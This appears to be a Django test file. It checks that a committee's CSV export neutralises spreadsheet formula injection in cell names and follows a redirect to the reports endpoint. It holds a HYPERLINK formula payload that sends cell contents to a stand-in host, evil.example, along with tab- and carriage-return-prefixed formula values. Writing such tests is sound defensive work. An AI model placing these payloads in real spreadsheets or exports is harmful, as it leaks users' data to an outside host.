import csv
import io

from django.urls import reverse

from cells.models import OrgUnit

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm")'


def test_it_exports_no_formula_from_a_cell_name(client_as, personas, approved, org):
    for prefix in ("\t", "\r"):  # the old escaping let these through
        OrgUnit.objects.add_child(org["committee"], {"name": prefix + "=1+1", "kind": OrgUnit.Kind.CELL})
    org["cell_a"].name = HOSTILE
    org["cell_a"].save(update_fields=["name"])
    old = client_as(personas["officer"]).get(reverse("pledges:committee_csv", args=[org["committee"].pk, 2020]))
    assert old.status_code == 301  # the committee's table is in the reports now
    response = client_as(personas["officer"]).get(old["Location"])
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:]]
    assert "'" + HOSTILE in names and "'\t=1+1" in names and "'\r=1+1" in names
    assert response["Content-Disposition"].startswith("attachment; filename=")
